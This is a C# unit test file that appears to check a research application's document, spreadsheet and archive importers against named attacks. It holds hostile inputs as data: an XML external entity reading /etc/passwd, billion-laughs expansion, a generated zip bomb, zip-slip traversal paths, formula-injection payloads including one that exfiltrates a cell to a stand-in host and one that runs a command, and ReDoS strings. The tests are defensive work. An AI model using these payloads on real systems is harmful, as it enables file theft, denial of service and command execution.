using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using CoreStudy.Domain;
using CoreStudy.Interchange.Archives;
using CoreStudy.Interchange.Codebooks;
using CoreStudy.Interchange.Codings;
using CoreStudy.Interchange.Reports;
using CoreStudy.Interchange.Tables;
using CoreStudy.Interchange.Tests.Transcripts;
using CoreStudy.Interchange.Transcripts;

namespace CoreStudy.Interchange.Tests.Hostile;

/// <summary>Attacks that have a name, on those importers that have no such test beside their own.</summary>
public sealed class NamedAttackTests
{
    private const string External = "<!DOCTYPE x [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>";
    private const string Laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>";

    public static TheoryData<string, string> Declared => new()
    {
        { "docx", External }, { "docx", Laughs }, { "odt", External }, { "odt", Laughs }, { "xlsx", External }, { "xlsx", Laughs },
    };

    /// <summary>XML external entities, and entities that grow (“billion laughs”).</summary>
    [Theory]
    [MemberData(nameof(Declared))]
    public void An_entity_that_a_file_declares_is_neither_fetched_nor_unfolded(string kind, string declared)
    {
        var told = kind switch
        {
            "docx" => Told(TranscriptFile.Read("a.docx", MadeUp.Zip(("word/document.xml", $"{declared}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{MadeUp.Paragraph("I: &secret;&c; words")}</w:body></w:document>")), CancellationToken.None), d => string.Concat(d.Turns.Select(t => t.Text))),
            "odt" => Told(TranscriptFile.Read("a.odt", MadeUp.Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<manifest/>"), ("content.xml", $"{declared}<office:document-content xmlns:office=\"o\" xmlns:text=\"t\"><office:body><office:text><text:p>I: &secret;&c; words</text:p></office:text></office:body></office:document-content>")), CancellationToken.None), d => string.Concat(d.Turns.Select(t => t.Text))),
            _ => Told(TypedTable.ReadFile(Sheet($"{declared}<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&secret;&c;</t></is></c></row></sheetData></worksheet>"), CancellationToken.None), rows => string.Concat(rows.SelectMany(r => r.Cells))),
        };

        Assert.DoesNotContain("root:", told, StringComparison.Ordinal);
        Assert.True(told.Length < 400, told);
    }

    /// <summary>Zip bombs: little that unpacks to much.</summary>
    [Theory]
    [InlineData("transcript")]
    [InlineData("framework")]
    [InlineData("codings")]
    [InlineData("participants")]
    [InlineData("archive")]
    public async Task A_file_that_unpacks_to_much_is_stopped_before_it_fills_the_memory(string what)
    {
        var bomb = Bomb(what == "archive" ? "manifest.json" : what == "transcript" ? "word/document.xml" : "xl/worksheets/sheet1.xml", 600L << 20);
        Assert.True(bomb.Length < 8 << 20);
        var before = GC.GetAllocatedBytesForCurrentThread();

        Refusal? refusal = what switch
        {
            "transcript" => Refused(TranscriptFile.Read("a.docx", bomb, CancellationToken.None)),
            "framework" => Refused(CodebookFile.Read("a.xlsx", bomb, CancellationToken.None)),
            "codings" => Refused(CodingsFile.Read("a.xlsx", bomb, CancellationToken.None)),
            "participants" => Refused(TypedTable.ReadFile(bomb, CancellationToken.None)),
            _ => Refused(await ArchiveReader.OpenAsync(new MemoryStream(bomb), CancellationToken.None)),
        };

        Assert.NotNull(refusal);
        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 512 << 20, $"{what} took {GC.GetAllocatedBytesForCurrentThread() - before} bytes");
    }

    /// <summary>Path traversal (“zip slip”): nothing is unpacked to a disk, whatever it is called.</summary>
    [Theory]
    [InlineData("../../../../tmp/corestudy-was-here")]
    [InlineData("/tmp/corestudy-was-here")]
    [InlineData("..\\..\\corestudy-was-here")]
    public async Task A_name_that_leads_out_of_a_packed_file_writes_nothing(string name)
    {
        var docx = MadeUp.Zip(("word/document.xml", $"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{MadeUp.Paragraph("I: Words.")}</w:body></w:document>"), (name, "here"));

        TranscriptFile.Read("a.docx", docx, CancellationToken.None);
        ReportTemplate.Read(docx);
        TypedTable.ReadFile(docx, CancellationToken.None);
        await ArchiveReader.OpenAsync(new MemoryStream(MadeUp.Zip((name, "here"))), CancellationToken.None);

        Assert.False(File.Exists("/tmp/corestudy-was-here"));
        Assert.False(File.Exists(Path.Combine(AppContext.BaseDirectory, name)));
    }

    /// <summary>Formula injection: what somebody typed never runs in a spreadsheet that CoreStudy wrote.</summary>
    [Theory]
    [InlineData("=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"look\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Words_that_look_like_a_formula_are_words_in_a_workbook(string typed)
    {
        var file = Workbook.Write([new WorkbookSheet("Sheet", [typed], [[typed]])]);

        using var zip = new ZipArchive(new MemoryStream(file), ZipArchiveMode.Read);
        using var reader = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var xml = reader.ReadToEnd();
        Assert.DoesNotContain("<x:f", xml, StringComparison.Ordinal);
        Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
        Assert.Contains("inlineStr", xml, StringComparison.Ordinal);
    }

    /// <summary>Regular expressions that take for ever (ReDoS), and nesting that fills the stack.</summary>
    [Fact]
    public void Long_runs_of_what_a_layout_looks_for_take_little_time()
    {
        var began = Stopwatch.GetTimestamp();
        foreach (var (name, text) in new[]
        {
            ("a.txt", new string('A', 200_000) + ":"), ("a.txt", string.Concat(Enumerable.Repeat("P1 ", 60_000))), ("a.txt", new string(' ', 300_000) + "x"), ("a.txt", string.Concat(Enumerable.Repeat("[00:00:", 50_000))),
            ("a.vtt", "WEBVTT\n\n" + string.Concat(Enumerable.Repeat("00:00:01.000 --> ", 20_000))), ("a.html", string.Concat(Enumerable.Repeat("<div>", 100_000))), ("a.rtf", "{\\rtf1 " + new string('{', 100_000)),
            ("a.otr", "{\"text\":\"" + string.Concat(Enumerable.Repeat("<p>", 50_000)) + "\"}"), ("a.csv", new string('"', 200_001)), ("a.md", string.Concat(Enumerable.Repeat("**", 100_000))),
        }) TranscriptFile.Read(name, Encoding.UTF8.GetBytes(text), CancellationToken.None);

        Assert.True(Stopwatch.GetElapsedTime(began) < TimeSpan.FromMinutes(2), $"{Stopwatch.GetElapsedTime(began)}");
    }

    private static byte[] Sheet(string sheet) => MadeUp.Zip(
        ("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>"),
        ("_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"),
        ("xl/workbook.xml", "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"),
        ("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"),
        ("xl/worksheets/sheet1.xml", sheet));

    /// <summary>A packed file with one entry of spaces.</summary>
    private static byte[] Bomb(string entry, long size)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in new[] { ("xl/workbook.xml", "<workbook/>"), ("[Content_Types].xml", "<Types/>") })
            {
                using var small = zip.CreateEntry(name).Open();
                small.Write(MadeUp.Utf8(content));
            }

            using var written = zip.CreateEntry(entry, CompressionLevel.Fastest).Open();
            var spaces = new byte[1 << 20];
            Array.Fill(spaces, (byte)' ');
            for (var done = 0L; done < size; done += spaces.Length) written.Write(spaces);
        }

        return bytes.ToArray();
    }

    private static string Told<T>(Result<T> result, Func<T, string> words) => result.IsRefused(out var refusal, out var value) ? refusal.Sentence : words(value);

    private static Refusal? Refused<T>(Result<T> result) => result.IsRefused(out var refusal, out _) ? refusal : null;
}
